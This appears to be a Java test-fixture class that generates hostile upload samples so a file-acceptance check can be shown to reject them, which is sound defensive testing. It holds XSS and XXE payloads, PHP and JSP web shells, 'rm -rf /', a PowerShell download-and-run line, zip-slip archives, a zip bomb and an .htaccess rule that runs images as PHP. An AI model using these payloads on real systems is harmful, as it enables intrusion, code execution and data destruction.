package io.aftercare.casefile.files;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** What nobody means well with, or what broke on its way: none of it may be taken. */
public final class HostileFiles {

    static final String HTML = "<!DOCTYPE html><script>alert(document.cookie)</script>";
    static final String EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

    private static final Map<String, byte[]> ALL = made();

    private HostileFiles() {}

    /** By the name they come under. */
    public static Map<String, byte[]> all() {
        return ALL;
    }

    private static Map<String, byte[]> made() {
        var files = new LinkedHashMap<String, byte[]>();
        files.put("empty.jpg", new byte[0]);
        files.put("byte.png", new byte[] {(byte) 0x89});
        files.put("zeros.pdf", new byte[5000]);
        files.put("spaces.webp", text(" \r\n".repeat(50)));
        files.put("noise.bin", noise());
        texts().forEach((name, bytes) -> disguised(files, name, bytes));
        programs().forEach((name, bytes) -> disguised(files, name, bytes));
        HostilePictures.addTo(files);
        HostileDocuments.addTo(files);
        return files;
    }

    /** Under its own name, as the picture or document it is not, and with two endings. */
    private static void disguised(Map<String, byte[]> files, String name, byte[] bytes) {
        var stem = name.substring(0, name.lastIndexOf('.'));
        files.put(name, bytes);
        files.put(name + ".jpg", bytes);
        files.put(stem + ".pdf", bytes);
    }

    private static Map<String, byte[]> texts() {
        var svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" ";
        var entities = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>";
        var files = new LinkedHashMap<String, byte[]>();
        files.put("page.html", text(HTML));
        files.put("marked.html", text("\uFEFF" + HTML));
        files.put("wide.html", ("\uFEFF" + HTML).getBytes(StandardCharsets.UTF_16LE));
        files.put("later.html", text(" ".repeat(3000) + HTML));
        files.put("drawing.svg", text(svg + "onload=\"alert(1)\"/>"));
        files.put("scripted.svg", text("<?xml version=\"1.0\"?>" + svg + "><script>alert(1)</script></svg>"));
        files.put(
                "foreign.svg",
                text(svg + "><foreignObject><iframe src=\"javascript:alert(1)\"/></foreignObject></svg>"));
        files.put("entity.svg", text(entities + svg + "><text>&x;</text></svg>"));
        files.put("laughs.xml", text(laughs()));
        files.put("styled.xml", text("<?xml-stylesheet href=\"javascript:alert(1)\"?><a/>"));
        files.put("mail.mhtml", text("MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + HTML));
        files.put("program.hta", text("<HTA:APPLICATION/>" + HTML));
        files.put("script.js", text("alert(1)"));
        files.put("server.php", text("<?php system($_GET['c']); ?>"));
        files.put("server.jsp", text("<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"));
        files.put("shell.sh", text("#!/bin/sh\nrm -rf /"));
        files.put("shell.ps1", text("Invoke-Expression (New-Object Net.WebClient).DownloadString('http://e')"));
        files.put("link.url", text("[InternetShortcut]\r\nURL=file:///c:/windows/system32/calc.exe"));
        files.put("rules.htaccess", text("AddType application/x-httpd-php .jpg"));
        files.put("rich.rtf", text("{\\rtf1{\\object\\objocx{\\*\\objdata 0105}}}"));
        files.put("eicar.com", text(EICAR));
        files.put("image.ppm", text("P6 99999 99999 255 "));
        return files;
    }

    private static Map<String, byte[]> programs() {
        var files = new LinkedHashMap<String, byte[]>();
        files.put("archive.zip", zip("../../evil.sh"));
        files.put("absolute.zip", zip("/etc/cron.d/evil"));
        files.put("macro.docm", zip("word/vbaProject.bin", "[Content_Types].xml"));
        files.put("macro.xlsm", zip("xl/vbaProject.bin", "[Content_Types].xml"));
        files.put("macro.pptm", zip("ppt/vbaProject.bin", "[Content_Types].xml"));
        files.put("code.jar", zip("META-INF/MANIFEST.MF", "Evil.class"));
        files.put("bomb.zip", zipBomb());
        files.put("old.doc", begins(0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1));
        files.put("program.exe", begins('M', 'Z', 0x90, 0));
        files.put("program.elf", begins(0x7F, 'E', 'L', 'F', 2, 1, 1));
        files.put("program.dylib", begins(0xCF, 0xFA, 0xED, 0xFE));
        files.put("program.class", begins(0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 61));
        files.put("packed.gz", begins(0x1F, 0x8B, 8, 0));
        files.put("packed.7z", begins('7', 'z', 0xBC, 0xAF, 0x27, 0x1C));
        files.put("packed.rar", begins('R', 'a', 'r', '!', 0x1A, 7, 0));
        files.put("short.lnk", begins(0x4C, 0, 0, 0, 1, 0x14, 2, 0));
        return files;
    }

    private static String laughs() {
        var text = new StringBuilder("<!DOCTYPE a [<!ENTITY l0 \"ha\">");
        for (var depth = 1; depth < 30; depth++) {
            text.append("<!ENTITY l%d \"&l%d;&l%d;\">".formatted(depth, depth - 1, depth - 1));
        }
        return text.append("]><a>&l29;</a>").toString();
    }

    static byte[] zip(String... entries) {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            for (var entry : entries) {
                zip.putNextEntry(new ZipEntry(entry));
                zip.write(text("rm -rf /"));
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /** Unfolds to a hundred megabytes. */
    private static byte[] zipBomb() {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("zeros"));
            for (var megabyte = 0; megabyte < 100; megabyte++) {
                zip.write(new byte[1 << 20]);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] begins(int... start) {
        var bytes = noise();
        for (var at = 0; at < start.length; at++) {
            bytes[at] = (byte) start[at];
        }
        return bytes;
    }

    private static byte[] noise() {
        var bytes = new byte[4096];
        new Random(7).nextBytes(bytes);
        return bytes;
    }

    static byte[] text(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] joined(byte[]... parts) {
        var bytes = new ByteArrayOutputStream();
        List.of(parts).forEach(bytes::writeBytes);
        return bytes.toByteArray();
    }
}
